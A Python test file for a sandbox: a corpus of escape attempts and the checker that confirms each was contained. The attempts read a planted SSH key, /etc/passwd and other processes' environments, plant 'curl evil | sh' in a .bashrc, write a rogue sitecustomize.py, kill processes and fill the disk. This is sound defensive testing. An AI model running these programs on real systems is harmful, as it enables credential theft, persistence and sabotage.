"""A corpus of hostile programs for the sandbox, and the driver that checks each one.

Standard library only: tests/test_sandbox_corpus.py runs `main()` in its own process
(the host is root in CI) and, as an unprivileged uid, in a subprocess started through
setpriv with the system interpreter (the "non-root host" case):

    python tests/sandbox_corpus.py <out.json | -> <mode> [<mode> ...]

Every program runs with the audit hook OFF (the kernel layers alone) and its check looks
at the host after the run: a secret that must not appear in the output, a file that
must not change or appear, a process that must still be alive, a listener that must see
no connection, a marker that no process may carry. The driver builds its own world in
a fresh temporary root: a "home" with a 0600 key and a writable rc file, a world-readable
file, a world-writable directory, a victim process of the sandbox's uid, a listening
socket. `main` writes {mode: {program: [contained, detail]}}.
"""

from __future__ import annotations

import concurrent.futures
import dataclasses
import json
import os
import pathlib
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import uuid

ROOT = pathlib.Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from sao_jax.envs.sandbox import runner as S  # noqa: E402

LIMITS = S.SandboxLimits(cpu_s=2, wall_s=20.0, max_procs=4, disk_bytes=32 << 20)
# Programs whose run ends only at the wall limit by design: in the weak mode the orphan
# holds the run's output pipe until the limit kills it (the check: none left after), so
# a short limit checks the same thing without waiting 20 s.
WALL_S = {"setsid_orphan": 5.0}
PARENT_SECRET = os.environ.get("SAO_PARENT_SECRET") or "parent-env-" + uuid.uuid4().hex


def _syscalls_code() -> str:
    """ctypes calls of denied system calls with harmless arguments; prints name=errno."""
    table = {"x86_64": S.sandbox_seccomp._X86_64, "aarch64": S.sandbox_seccomp._GENERIC}
    import platform

    nrs = table[platform.machine()]
    calls = {
        "mount": (0, 0, 0, 0, 0), "umount2": (0, 0), "unshare": (0x10000000,),
        "setns": (0, 0), "keyctl": (0, 0, 0, 0, 0), "add_key": (0, 0, 0, 0, 0),
        "bpf": (0, 0, 0), "ptrace": (16, 1, 0, 0), "pidfd_open": (1, 0),
        "process_vm_readv": (1, 0, 0, 0, 0, 0), "perf_event_open": (0, 0, 0, 0, 0),
        "userfaultfd": (0,), "io_uring_setup": (1, 0), "open_by_handle_at": (0, 0, 0),
        "setsid": (), "clone3": (0, 0), "chroot": (0,), "pivot_root": (0, 0),
    }  # fmt: skip
    lines = ["import ctypes", "libc = ctypes.CDLL(None, use_errno=True)", "out = []"]
    for name, args in calls.items():
        lines.append(f"r = libc.syscall({nrs[name]}, {', '.join(map(str, args)) or ''})")
        lines.append(f"out.append('{name}=%d/%d' % (r, ctypes.get_errno()))")
    lines.append("print(' '.join(out))")
    return "\n".join(lines) + "\n"


def programs(w: dict) -> dict[str, str]:
    """name -> source, with the world `w` built by `make_world`."""
    secret, public, rc = w["secret_file"], w["public_file"], w["rc_file"]
    return {
        "read_private_key": f"print(open({secret!r}).read())",
        "read_public_file": f"print(open({public!r}).read())",
        "read_checkout": f"print(open({w['checkout_file']!r}).read())",
        "read_etc_passwd": "print(open('/etc/passwd').read())",
        "fspath_race": (
            "import io\nclass P:\n    n = 0\n    def __fspath__(self):\n        P.n += 1\n"
            f"        return 'main.py' if P.n == 1 else {secret!r}\n"
            "for _ in range(3):\n    try:\n        print(io.FileIO(P()).read().decode())\n"
            "    except OSError as e:\n        print(e)\n"
        ),
        "dir_fd": (
            f"import os\nfd = os.open('/', os.O_RDONLY)\n"
            f"print(os.read(os.open({public.lstrip('/')!r}, os.O_RDONLY, dir_fd=fd), 999))"
        ),
        "proc_of_parent": (
            f"import os\nfor p in ('/proc/{w['host_pid']}/environ', "
            f"'/proc/{w['victim_pid']}/environ', '/proc/%d/environ' % os.getppid()):\n"
            "    try:\n        print(open(p, 'rb').read())\n    except OSError as e:\n"
            "        print(e)\n"
        ),
        "symlink_out": (
            f"import os\nos.symlink({os.path.dirname(public)!r}, 'out')\n"
            f"os.symlink({w['victim_dir']!r}, 'victim')\n"
            f"print(open('out/{os.path.basename(public)}').read())"
        ),
        "write_home_rc": f"open({rc!r}, 'a').write('curl evil | sh\\n')",
        "write_stdlib": (
            "import os\np = os.path.join(os.path.dirname(os.__file__), 'sitecustomize.py')\n"
            "open(p, 'w').write('print(\"pwned\")')"
        ),
        "write_shared_tmp": f"open({w['shared_tmp']!r} + '/dropped', 'w').write('x')",
        "write_tmp": f"open('/tmp/{w['marker']}', 'w').write('x')",
        "kill_host": f"import os, signal\nos.kill({w['host_pid']}, signal.SIGKILL)",
        "kill_victim": f"import os, signal\nos.kill({w['victim_pid']}, signal.SIGKILL)",
        "kill_everyone": "import os, signal\nos.kill(-1, signal.SIGKILL)",
        "pidfd_kill": (
            f"import os, signal\nfd = os.pidfd_open({w['victim_pid']})\n"
            "signal.pidfd_send_signal(fd, signal.SIGKILL)"
        ),
        "setsid_orphan": (
            "import os, sys\nif os.fork() == 0:\n    try:\n        os.setsid()\n"
            "    except OSError:\n        pass\n"
            f"    os.execv(sys.executable, [sys.executable, '-c', 'import time; "
            f"time.sleep(60)', {w['marker']!r}])\nprint('parent done')"
        ),
        "deep_tree": (
            "import os\nfor i in range(2048):\n    os.mkdir('d')\n    os.chdir('d')\n"
            "os.chmod('.', 0)\nprint('deep')"
        ),
        "disk_fill": (
            "n = 0\ntry:\n    while True:\n        open('f%d' % n, 'wb').write(b'x' * (1 << 20))\n"
            "        n += 1\nexcept OSError as e:\n    print(n, e)\n"
            "try:\n    while True:\n        open('/tmp/f%d' % n, 'wb').write(b'x' * (1 << 20))\n"
            "        n += 1\nexcept OSError as e:\n    print(n, e)\n"
        ),
        "network": (
            "import socket\ns = socket.socket()\ns.settimeout(2)\n"
            f"s.connect(('127.0.0.1', {w['port']}))\nprint('connected')"
        ),
        "env_leak": "import os\nprint(dict(os.environ))",
        "denied_syscalls": _syscalls_code(),
        "unix_socket": (
            "import socket\ns = socket.socket(socket.AF_UNIX)\ns.settimeout(2)\n"
            f"s.connect({w['unix_path']!r})\nprint('connected')"
        ),
        "ipv6_socket": (
            "import socket\ns = socket.socket(socket.AF_INET6)\ns.settimeout(2)\n"
            f"s.connect(('::1', {w['port6'] or 9}))\nprint('connected')"
        ),
        "supervisor_mem": (  # patch the supervisor to outlive the run / forge a status
            "import os\nppid = os.getppid()\n"
            "for p, fl in (('mem', os.O_RDWR), ('environ', os.O_RDONLY)):\n    try:\n"
            "        os.open('/proc/%d/%s' % (ppid, p), fl)\n        print('OPENED', p)\n"
            "    except OSError as e:\n        print('refused', p, e)\n"
        ),
        "forge_other_status": (  # another run's status pipe, through its supervisor's /proc
            "import os\nn = 0\ntry:\n    pids = [p for p in os.listdir('/proc') if p.isdigit()]\n"
            "except OSError:\n    pids = []\nfor pid in pids:\n    try:\n"
            "        cmd = open('/proc/%s/cmdline' % pid, 'rb').read()\n    except OSError:\n"
            "        continue\n    if b'status_fd' not in cmd or int(pid) == os.getpid():\n"
            "        continue\n    n += 1\n    for fd in range(3, 16):\n        try:\n"
            "            f = os.open('/proc/%s/fd/%d' % (pid, fd), os.O_WRONLY)\n"
            "            print('WRITABLE', pid, fd)\n"  # never written: the corpus runs on
            "        except OSError:\n            pass\nprint('supervisors seen', n)\n"
        ),
        "replace_private_dir": (  # the old root-side cleanup chmod-ed through the link
            f"import os\nhere = os.getcwd()\ntry:\n    os.rename(here, '/tmp/{w['marker']}-dir')\n"
            f"    os.symlink({secret!r}, here)\n    print('replaced')\nexcept OSError as e:\n"
            "    print('refused', e)\n"
        ),
    }


def make_world(base: str, sandbox_uid: int | None) -> dict:
    """The victims: files, a process of the sandbox's uid, a listener; under `base`."""
    home = os.path.join(base, "home")
    os.makedirs(os.path.join(home, ".ssh"))
    secret = os.path.join(home, ".ssh", "id_rsa")
    pathlib.Path(secret).write_text("PRIVATE-KEY-" + uuid.uuid4().hex)
    os.chmod(secret, 0o600)
    os.chmod(os.path.join(home, ".ssh"), 0o700)
    rc = os.path.join(home, ".bashrc")
    pathlib.Path(rc).write_text("# rc\n")
    os.chmod(rc, 0o644)
    public_dir = os.path.join(base, "public")
    os.makedirs(public_dir)
    public = os.path.join(public_dir, "notes.txt")
    pathlib.Path(public).write_text("PUBLIC-SECRET-" + uuid.uuid4().hex)
    shared = os.path.join(base, "shared_tmp")
    os.makedirs(shared)
    os.chmod(shared, 0o1777)
    victim_dir = os.path.join(base, "victim_dir")
    os.makedirs(victim_dir)
    pathlib.Path(victim_dir, "keep.txt").write_text("keep")
    for d in (base, public_dir, victim_dir):
        os.chmod(d, 0o755)
    user = {} if sandbox_uid is None else {"user": sandbox_uid, "group": sandbox_uid}
    env = {"PATH": "/usr/bin:/bin", "SAO_PARENT_SECRET": PARENT_SECRET}
    victim = subprocess.Popen(["sleep", "600"], start_new_session=True, env=env, **user)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.2)
    unix_path = os.path.join(base, "listener.sock")
    unix_listener = socket.socket(socket.AF_UNIX)
    unix_listener.bind(unix_path)
    os.chmod(unix_path, 0o777)
    unix_listener.listen(8)
    unix_listener.settimeout(0.2)
    try:  # the host's IPv6 loopback, where it has one
        listener6 = socket.socket(socket.AF_INET6)
        listener6.bind(("::1", 0))
        listener6.listen(8)
        listener6.settimeout(0.2)
    except OSError:
        listener6 = None
    return dict(
        secret_file=secret, public_file=public, rc_file=rc, shared_tmp=shared,
        victim_dir=victim_dir, checkout_file=os.path.abspath(__file__),
        host_pid=os.getpid(), victim_pid=victim.pid, port=listener.getsockname()[1],
        marker="sao-corpus-" + uuid.uuid4().hex, _victim=victim, _listener=listener,
        scratch=os.path.join(base, "scratch"), unix_path=unix_path,
        _unix_listener=unix_listener, _listener6=listener6,
        port6=listener6.getsockname()[1] if listener6 is not None else None,
    )  # fmt: skip


def _alive(pid: int) -> bool:
    try:
        state = pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (OSError, IndexError):
        return False
    return state not in ("Z", "X", "t", "T")


def _marked(marker: str) -> list[int]:
    found = []
    for p in pathlib.Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if marker.encode() in p.read_bytes():
                found.append(int(p.parent.name))
        except OSError:
            pass
    return found


def _connection_arrived(listener) -> bool:
    if listener is None:  # no IPv6 loopback on this host
        return False
    try:
        listener.accept()[0].close()
    except TimeoutError:
        return False
    return True


def check(name: str, r: S.SandboxResult, w: dict) -> tuple[bool, str]:
    """(contained, detail) of program `name` after its run."""
    out = r.stdout + r.stderr
    secret = pathlib.Path(w["secret_file"]).read_text()
    public = pathlib.Path(w["public_file"]).read_text()
    detail = f"error={r.error} out={out[-160:]!r}"
    leaked = lambda *texts: any(t in out for t in texts)
    if name in ("read_private_key", "fspath_race"):
        return not leaked(secret), detail
    if name in ("read_public_file", "dir_fd"):
        return not leaked(public), detail
    if name == "read_checkout":
        return "def programs(" not in out, detail
    if name == "read_etc_passwd":
        return "root:" not in out, detail
    if name == "proc_of_parent":
        return not leaked(PARENT_SECRET), detail
    if name == "symlink_out":
        intact = pathlib.Path(w["victim_dir"], "keep.txt").exists()
        return not leaked(public) and intact, detail + f" victim_dir_intact={intact}"
    if name == "write_home_rc":
        return pathlib.Path(w["rc_file"]).read_text() == "# rc\n", detail
    if name == "write_stdlib":
        import sysconfig

        path = pathlib.Path(sysconfig.get_path("stdlib"), "sitecustomize.py")
        return not path.exists() or "pwned" not in path.read_text(), detail
    if name == "write_shared_tmp":
        return not pathlib.Path(w["shared_tmp"], "dropped").exists(), detail
    if name == "write_tmp":
        return not pathlib.Path("/tmp", w["marker"]).exists(), detail
    if name in ("kill_host", "kill_victim", "kill_everyone", "pidfd_kill"):
        return _alive(w["victim_pid"]), detail + f" victim_alive={_alive(w['victim_pid'])}"
    if name == "setsid_orphan":
        left = _marked(w["marker"])
        return not left, detail + f" left={left}"
    if name in ("deep_tree", "disk_fill"):
        left = os.listdir(w["scratch"])
        ok = r.error is None or "exceeded" in r.error or r.exit_code is not None
        return ok and not left, detail + f" scratch_left={left}"
    listeners = {"network": "_listener", "unix_socket": "_unix_listener"}
    listeners["ipv6_socket"] = "_listener6"
    if name in listeners:
        if _connection_arrived(w[listeners[name]]):
            return False, detail + " a connection arrived"
        return "connected" not in r.stdout, detail
    if name == "env_leak":
        return PARENT_SECRET not in out, detail
    if name == "supervisor_mem":
        return "OPENED" not in r.stdout and r.stdout.count("refused") == 2, detail
    if name == "forge_other_status":
        return "WRITABLE" not in r.stdout, detail
    if name == "replace_private_dir":
        mode = os.stat(w["secret_file"]).st_mode & 0o777
        moved = pathlib.Path("/tmp", w["marker"] + "-dir")
        left = moved.exists()
        if left:  # never leave it behind (the unprivileged host's gap)
            shutil.rmtree(moved, ignore_errors=True)
        return mode == 0o600 and not left, detail + f" key_mode={mode:o} moved_left={left}"
    if name == "denied_syscalls":
        pairs = dict(p.split("=") for p in r.stdout.split())
        bad = {k: v for k, v in pairs.items() if not v.startswith("-1/")}
        return bool(pairs) and not bad, detail + f" succeeded={bad}"
    raise KeyError(name)


def run_corpus(mode: str, base: str, workers: int = 4) -> dict[str, tuple[bool, str]]:
    """Runs every program in `mode` (4 at a time) and checks each one."""
    setup = S.probe_setup()
    w = make_world(base, setup.uid)
    os.makedirs(w["scratch"])
    os.chmod(w["scratch"], 0o755)
    out = {}
    try:
        progs = programs(w)

        def one(name):
            limits = dataclasses.replace(LIMITS, wall_s=WALL_S.get(name, LIMITS.wall_s))
            r = S.run_python(
                progs[name], limits, isolation=mode, allow_weak=True, audit_hook=False,
                scratch_dir=w["scratch"],
            )  # fmt: skip
            return name, r

        with concurrent.futures.ThreadPoolExecutor(workers) as pool:
            results = list(pool.map(one, progs))
        for name, r in results:
            out[name] = check(name, r, w)
    finally:
        w["_victim"].kill()
        w["_victim"].wait()
        w["_listener"].close()
        w["_unix_listener"].close()
        if w["_listener6"] is not None:
            w["_listener6"].close()
        for pid in _marked(w["marker"]):  # never leave an escaped process behind
            os.kill(pid, signal.SIGKILL)
        pathlib.Path("/tmp", w["marker"]).unlink(missing_ok=True)  # the weak mode's escape
    return out


def main(argv: list[str]) -> int:
    """Writes {mode: {program: [contained, detail]}} (a mode this machine cannot run:
    {mode: {"_unavailable": why}}) to argv[0]. Pass PARENT_SECRET in the environment."""
    out_path, modes = argv[0], argv[1:]
    results = {}
    for mode in modes:
        try:
            S.resolve_isolation(mode, allow_weak=True)
        except S.SandboxUnavailable as e:
            results[mode] = {"_unavailable": str(e)}
            continue
        base = tempfile.mkdtemp(prefix="sao_corpus_")
        try:
            results[mode] = run_corpus(mode, base)
        finally:
            shutil.rmtree(base, ignore_errors=True)
    text = json.dumps(results, indent=1)
    if out_path == "-":
        print("CORPUS " + text.replace("\n", " "))
    else:
        pathlib.Path(out_path).write_text(text)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
